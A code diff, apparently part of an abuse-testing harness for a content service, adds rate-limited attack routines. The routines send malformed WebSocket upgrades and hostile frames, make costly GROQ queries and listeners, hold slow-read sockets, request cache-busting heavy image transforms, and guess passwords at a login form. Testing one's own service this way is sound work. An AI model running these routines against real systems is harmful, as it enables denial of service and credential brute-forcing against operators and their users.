@@ -1,0 +1,159 @@
+import {request} from 'node:http'
+import {connect} from 'node:net'
+import {WebSocket} from 'ws'
+import {ask, from, groq, type Note, openSocket, rotated} from './attack-requests.ts'
+
+/** Where attacks go. */
+export interface Target {
+  site: string
+  lake: string
+  /** An editor's token, for the one attack that needs an account. */
+  token: string
+  /** Path of a picture, without parameters. */
+  image: string
+}
+
+interface Attack {
+  perSecond: number
+  /** Sends the request with this number and notes each outcome. */
+  send(target: Target, n: number, note: Note): void
+}
+
+/** Connections that an attack keeps open. */
+const held = new Set<object>()
+
+/** The attacks of issue 15 that need no account, except where the name says so. */
+export const attacks = {
+  'malformed upgrades': {
+    perSecond: 100,
+    send({lake}, n, note) {
+      const {hostname, port} = new URL(lake)
+      const [path = ''] = rotated(['http://[', '//[', 'http://a:99999999', '/%ZZ'], n)
+      const socket = connect(Number(port), hostname)
+      socket.end(
+        `GET ${path} HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n`,
+      )
+      socket.once('data', (data) => note(data.toString('latin1', 9, 12)))
+      socket.on('error', () => note('lost'))
+    },
+  },
+  'hostile frames': {
+    perSecond: 100,
+    send({lake}, n, note) {
+      const socket = openSocket(lake, note)
+      const frames = [
+        '{"id":1,"method":"authorization","params":{"authorization":{"toString":1}}}',
+        '{"id":1,"method":{"toString":1}}',
+        '{"id":1,"method":"presence_unsubscribe","params":{"subscriptionId":{"toString":1}}}',
+        `{"id":1,"method":${'['.repeat(1_500)}${']'.repeat(1_500)}}`,
+      ]
+      socket.once('open', () => {
+        for (const frame of rotated(frames, n)) socket.send(frame)
+        socket.close()
+      })
+      socket.on('message', () => note('answered'))
+    },
+  },
+  'costly GROQ by query': {
+    perSecond: 40,
+    send({lake}, n, note) {
+      ask(`${lake}/v2025-02-19/data/query/production?query=${groq(n)}`, from(n), note)
+    },
+  },
+  'costly GROQ by listen': {
+    perSecond: 40,
+    send({lake}, n, note) {
+      ask(`${lake}/v2025-02-19/data/listen/production?query=${groq(n)}`, from(n), note)
+    },
+  },
+  "costly GROQ in an editor's mutations": {
+    perSecond: 10,
+    send({lake, token}, n, note) {
+      const query = decodeURIComponent(groq(n))
+      const body = JSON.stringify({mutations: [{patch: {query, set: {n}}}]})
+      const url = `${lake}/v2025-02-19/data/mutate/production?dryRun=true`
+      const authorization = `Bearer ${token}`
+      ask(url, {...from(n), authorization, 'content-type': 'application/json'}, note, body)
+    },
+  },
+  'costly GROQ from a web page, no-cors': {
+    perSecond: 40,
+    send({lake}, n, note) {
+      const headers = {
+        'sec-fetch-site': 'cross-site',
+        'sec-fetch-mode': 'no-cors',
+        'sec-fetch-dest': 'image',
+      }
+      const url = `${lake}/v2025-02-19/data/query/production?query=${groq(n)}`
+      ask(url, {...from(n), ...headers}, note)
+    },
+  },
+  '400 listeners with costly filters': {
+    perSecond: 400,
+    send({lake}, n, note) {
+      if (held.size >= 400) return
+      const filter = encodeURIComponent(`*[count([${'1,'.repeat(90)}1][@ == ${n}]) >= 0]`)
+      const url = `${lake}/v2025-02-19/data/listen/production?query=${filter}&includeResult=true`
+      const sent = request(url, {headers: from(n), agent: false}, (response) => {
+        note(String(response.statusCode))
+        response.resume()
+      })
+      held.add(sent)
+      sent.on('close', () => held.delete(sent))
+      sent.on('error', () => note('lost'))
+      sent.end()
+    },
+  },
+  'presence sockets that never read': {
+    perSecond: 50,
+    send({lake}, n, note) {
+      const live = [...held].filter((socket) => socket instanceof WebSocket)
+      if (live.length < 20) {
+        const socket = openSocket(lake, note)
+        held.add(socket)
+        socket.once('open', () => socket.pause())
+        socket.once('close', () => held.delete(socket))
+      }
+      const size = n % 2 === 0 ? 240_000 : 3_000
+      const frame = JSON.stringify({id: 'x'.repeat(size), method: 'authorization'})
+      for (const socket of live) {
+        if (socket.readyState === WebSocket.OPEN && socket.bufferedAmount < 10_000_000) {
+          socket.send(frame)
+          note('frame')
+        }
+      }
+    },
+  },
+  "heavy pictures of the lake's": {
+    perSecond: 20,
+    send({lake, image}, n, note) {
+      const [parameters = ''] = rotated(
+        ['w=8192&blur=2000', 'w=8192&dpr=3&fm=avif&q=100', 'sharp=100&w=8192&fm=avif'],
+        n,
+      )
+      // Each is another picture: none is answered from the cache.
+      ask(`${lake}${image}?${parameters}&h=${(n % 8_000) + 1}`, from(n), note)
+    },
+  },
+  "heavy pictures of the site's": {
+    perSecond: 20,
+    send({site, image}, n, note) {
+      const parameters = `w=8192&auto=format&rect=${n % 50},0,${100 + (n % 700)},100`
+      ask(`${site}${image}?${parameters}`, {...from(n), accept: 'image/avif'}, note)
+    },
+  },
+  'login guesses': {
+    perSecond: 20,
+    send({lake}, n, note) {
+      const body = new URLSearchParams({email: 'editor@example.com', password: `guess ${n}`})
+      const headers = {
+        ...from(n),
+        origin: lake,
+        'content-type': 'application/x-www-form-urlencoded',
+      }
+      ask(`${lake}/login`, headers, note, body.toString())
+    },
+  },
+} satisfies Record<string, Attack>
+
+export type AttackName = keyof typeof attacks
